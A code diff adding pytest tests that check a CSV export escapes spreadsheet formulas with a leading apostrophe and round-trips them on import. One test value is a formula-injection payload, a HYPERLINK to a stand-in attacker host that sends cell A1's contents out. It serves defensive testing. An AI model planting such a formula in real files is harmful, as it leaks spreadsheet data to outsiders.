@@ -60,3 +60,23 @@ def test_a_malformed_file_imports_nothing(people: dict[str, Any], documented: An
         transfer.import_csv(people["alice"], documented, text)
     assert "Nothing was imported" in caught.value.message
     assert list(Documentation.objects.values_list("note", "revision")) == before
+
+
+@pytest.mark.parametrize("note", ['=HYPERLINK("https://evil.example.com/?"&A1,"Click")', "+1 for this", "-- draft",
+                                  "@owner: check", "'=already quoted", "'just a quote"])
+def test_the_csv_export_keeps_formulas_as_text_and_imports_back_unchanged(
+        people: dict[str, Any], retail: Any, retail_models: dict[str, Any], note: str) -> None:
+    services.save_documentation(people["eddie"], retail, *PRICE, DocumentationEdit(note=note))
+    cell = next(csv.DictReader(io.StringIO(transfer.export_csv(retail))))["note"]
+    assert cell[:1] == "'" and cell[1:] == note  # a spreadsheet shows it as text, never runs it
+    exported = transfer.export_csv(retail)
+    services.save_documentation(people["eddie"], retail, *PRICE, DocumentationEdit(note="changed meanwhile",
+                                                                                   base_revision=1))
+    transfer.import_csv(people["alice"], retail, exported)
+    assert services.find(retail, *PRICE).note == note
+
+
+def test_a_hand_written_note_starting_with_an_apostrophe_keeps_it(people: dict[str, Any], retail: Any,
+                                                                  retail_models: dict[str, Any]) -> None:
+    transfer.import_csv(people["alice"], retail, "type,full_name,note\nCustomField,Property__c.Price__c,'tis the price\n")
+    assert services.find(retail, *PRICE).note == "'tis the price"
